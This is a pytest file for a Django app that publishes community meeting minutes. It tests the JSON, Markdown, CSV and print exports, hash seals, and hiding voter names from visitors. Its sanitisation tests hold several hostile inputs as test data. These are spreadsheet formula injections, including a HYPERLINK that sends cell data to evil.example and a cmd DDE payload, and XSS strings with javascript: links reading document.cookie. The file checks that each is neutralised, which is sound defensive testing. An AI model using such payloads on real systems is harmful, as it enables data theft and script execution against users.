"""Votes in the minutes, and the exports: JSON (validated), Markdown, CSV, print page."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from django.test import Client
from django.utils import translation

from agora.infra import hashchain as chain
from records import services
from records.models import ActionItem, Visibility
from tests.records.helpers import published, voted_session

pytestmark = pytest.mark.django_db
SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "docs" / "minutes-schema.json").read_text(encoding="utf-8"))


@pytest.fixture
def voted(world):  # type: ignore[no-untyped-def]
    session = voted_session(world)
    resolution_id = session.motions.get().resolution.pk
    services.action_item_create(
        session=session, by=world.moderator, what="东门划线 20 个夜间车位", responsible="物业公司", due_on=None, resolution_id=resolution_id
    )
    item = session.agenda_items.get()
    services.minutes_draft_save(
        session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC
    )
    return services.minutes_publish(session=session, by=world.moderator)


def test_minutes_hold_every_motion_with_its_tally_and_the_resolution(world, voted) -> None:  # type: ignore[no-untyped-def]
    c = voted.content
    (motion,) = c["motions"]
    tallies = {o["code"]: (o["online"], o["in_person"], o["total"]) for o in motion["options"]}
    assert tallies == {"yes": (2, 5, 7), "no": (1, 0, 1), "abstain": (0, 1, 1)}
    assert motion["outcome"] == "passed" and c["agenda"][0]["motion_ids"] == [motion["id"]]
    (resolution,) = c["resolutions"]
    assert resolution["outcome"] == "passed" and resolution["receipt_count"] == 3
    assert voted.outcome == "passed"
    # The outsider only voted (never spoke): still counted online, once.
    assert c["attendance"]["online"] == 3
    (item,) = c["action_items"]
    assert item["resolution_id"] == resolution["id"]
    assert ActionItem.objects.get().resolution_id == resolution["id"]


def test_json_export_validates_against_the_schema_and_its_hash_checks_out(world, voted) -> None:  # type: ignore[no-untyped-def]
    response = Client().get(f"/minutes/{voted.pk}/minutes.json")
    assert response["Content-Type"].startswith("application/json")
    data = json.loads(response.content)
    jsonschema.validate(data, SCHEMA)
    assert chain.content_hash(chain.canonical_json(data["record"])) == data["hash"] == voted.content_hash
    assert data["permalink"].endswith(f"/minutes/{voted.pk}/")
    plain = published(world, title="无表决的专场")
    jsonschema.validate(json.loads(Client().get(f"/minutes/{plain.pk}/minutes.json").content), SCHEMA)


def test_schema_rejects_a_broken_export(world, voted) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(Client().get(f"/minutes/{voted.pk}/minutes.json").content)
    data["record"]["minutes"]["attendance"]["online"] = -1
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(data, SCHEMA)


def test_markdown_contains_the_tallies_and_the_resolution(world, voted) -> None:  # type: ignore[no-untyped-def]
    body = Client().get(f"/minutes/{voted.pk}/minutes.md").content.decode()
    assert body.startswith("# 会议纪要：东门夜间划线停车")
    assert "| 赞成 | 2 | 5 | 7 |" in body and "| 反对 | 1 | 0 | 1 |" in body and "| 弃权 | 0 | 1 | 1 |" in body
    assert "同意在东门夜间划线停车** — 通过" in body and "- 同意在东门夜间划线停车 — **通过**" in body
    assert voted.content_hash in body
    english = Client().get(f"/minutes/{voted.pk}/minutes.md", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "| Yes | 2 | 5 | 7 |" in english


def test_csv_has_one_row_per_option_with_the_tallies(world, voted) -> None:  # type: ignore[no-untyped-def]
    with translation.override("en"):
        response = Client().get(f"/minutes/{voted.pk}/votes.csv", HTTP_ACCEPT_LANGUAGE="en")
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["option"], r["online"], r["in_person"], r["total"], r["outcome"]) for r in rows] == [
        ("Yes", "2", "5", "7", "passed"),
        ("No", "1", "0", "1", "passed"),
        ("Abstain", "0", "1", "1", "passed"),
    ]
    assert {r["minutes_hash"] for r in rows} == {voted.content_hash}


def test_print_page_is_a4_ready_and_shows_the_transcript_open(world, voted) -> None:  # type: ignore[no-untyped-def]
    body = Client().get(f"/minutes/{voted.pk}/print/").content.decode()
    assert "css/minutes.css" in body and '<details class="transcript" open>' in body
    assert "东门晚上车太多" in body and "<script" not in body
    css = (Path(__file__).resolve().parents[2] / "static" / "css" / "minutes.css").read_text()
    assert "@page { size: A4" in css and "@media print" in css


def test_markdown_escapes_user_html(world) -> None:  # type: ignore[no-untyped-def]
    record = published(world, texts=("a &lt;img src=x onerror=alert(1)&gt; b",))
    body = Client().get(f"/minutes/{record.pk}/minutes.md").content.decode()
    assert "<img" not in body


def test_the_resolution_shows_the_satisfaction_of_its_action_items(world, voted) -> None:  # type: ignore[no-untyped-def]
    from records.models import ActionStatus

    item = ActionItem.objects.get()
    services.action_item_update(item=item, by=world.moderator, status=ActionStatus.DONE, note="已划线")
    item.refresh_from_db()
    services.satisfaction_rate(item=item, user=world.resident, score=4)
    services.satisfaction_rate(item=item, user=world.resident2, score=2)
    body = Client().get(f"/minutes/{voted.pk}/").content.decode()
    section = body[body.index('id="h-resolutions"') : body.index('id="h-actions"')]
    assert "满意度 50%（2 人评价，平均 3.0/5 分）" in section


# --- What a visitor may read (issue 14): no export shows more than the minutes page ----------

NAMES = {"resident": "王秀英", "resident2": "李建国", "outsider": "张伟"}


@pytest.fixture
def named_vote(world):  # type: ignore[no-untyped-def]
    """The public minutes of an open ballot whose three online voters have real names."""
    for attr, name in NAMES.items():
        user = getattr(world, attr)
        user.first_name = name
        user.save()
    session = voted_session(world)
    assert {v["name"] for v in session.motions.get().resolution.data["voters"]} == set(NAMES.values())  # voting has them
    item = session.agenda_items.get()
    services.minutes_draft_save(
        session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC
    )
    return services.minutes_publish(session=session, by=world.moderator)


def _client(user=None) -> Client:  # type: ignore[no-untyped-def]
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def _exports(client: Client, record_id: int) -> dict[str, str]:
    return {
        name: client.get(f"/minutes/{record_id}/{path}").content.decode("utf-8-sig")
        for name, path in (("page", ""), ("json", "minutes.json"), ("markdown", "minutes.md"), ("csv", "votes.csv"))
    }


def test_no_export_names_how_residents_voted_to_a_visitor(world, named_vote) -> None:  # type: ignore[no-untyped-def]
    for reader in (None, world.other_resident, world.other_moderator, world.observer):
        bodies = _exports(_client(reader), named_vote.pk)
        assert "1号楼居民" in bodies["page"]  # the page shows residents by building only …
        for kind, body in bodies.items():  # … and so does every export, for visitors and members alike
            for name in NAMES.values():
                assert name not in body, (reader, kind, name)
    data = json.loads(_exports(_client(), named_vote.pk)["json"])
    assert "redacted" not in data  # nothing was taken out: the export re-hashes to the seal
    assert chain.content_hash(chain.canonical_json(data["record"])) == named_vote.content_hash
    assert data["record"]["minutes"]["schema"] == "agora.minutes/2"
    assert "voters" not in data["record"]["minutes"]["motions"][0]["result"]


def test_a_record_sealed_before_version_2_names_voters_to_members_only(world, named_vote) -> None:  # type: ignore[no-untyped-def]
    from tests.records.helpers import reseal_as_version_1

    voters = [{"name": name, "choice": [1]} for name in NAMES.values()]
    old = reseal_as_version_1(named_vote, voters=voters)
    for reader in (None, world.other_resident, world.other_moderator):
        data = json.loads(_client(reader).get(f"/minutes/{old.pk}/minutes.json").content)
        jsonschema.validate(data, SCHEMA)
        assert data["redacted"] == ["minutes.motions[].result.voters"]
        assert "voters" not in data["record"]["minutes"]["motions"][0]["result"]
        assert not any(name in json.dumps(data, ensure_ascii=False) for name in NAMES.values())
    member = json.loads(_client(world.resident2).get(f"/minutes/{old.pk}/minutes.json").content)
    jsonschema.validate(member, SCHEMA)
    assert "redacted" not in member and member["record"]["minutes"]["motions"][0]["result"]["voters"] == voters
    assert chain.content_hash(chain.canonical_json(member["record"])) == old.content_hash


# --- Spreadsheets and Markdown readers never run what a resident typed ---------------------


def test_csv_cells_that_would_start_a_formula_are_text(world) -> None:  # type: ignore[no-untyped-def]
    from agora.infra.csv_safe import spreadsheet_cell
    from voting.models import Motion

    for dangerous in ('=HYPERLINK("http://evil.example","点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"):
        assert spreadsheet_cell(dangerous) == "'" + dangerous
    assert spreadsheet_cell("东门划线") == "东门划线" and spreadsheet_cell(-3) == -3 and spreadsheet_cell("a=b") == "a=b"
    session = voted_session(world)
    Motion.objects.filter(session=session).update(text='=HYPERLINK("http://evil.example/?x="&A1,"点我")')
    record = services.minutes_publish(session=session, by=world.moderator)
    body = _client(world.observer).get(f"/minutes/{record.pk}/votes.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 3
    assert {r["motion"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'}
    assert all(r["online"].isdigit() and r["total"].isdigit() for r in rows)  # numbers stay numbers


def test_markdown_escapes_table_pipes_and_emits_no_links_or_images(world) -> None:  # type: ignore[no-untyped-def]
    from agora.roster.models import Building

    Building.objects.filter(community=world.community, name="1号楼").update(name="1号楼 | 东区")
    record = published(
        world,
        summary="看这里 [点我](javascript:alert(1)) 和 ![](https://tracker.example/pixel.png) 以及 <javascript:alert(2)>",
        texts=("[领奖](javascript:alert(document.cookie))", "![x](http://evil.example/a.png)", "[ref]: javascript:alert(3)"),
    )
    body = Client().get(f"/minutes/{record.pk}/minutes.md").content.decode()
    assert "| 1号楼 \\| 东区 |" in body  # one cell, not two
    assert "](javascript:" not in body and "](http" not in body and "<javascript:" not in body
    assert "![" not in body and "\n[ref]:" not in body
    assert "看这里 \\[点我\\]\\(javascript:alert\\(1\\)\\)" in body  # the words are there, as typed
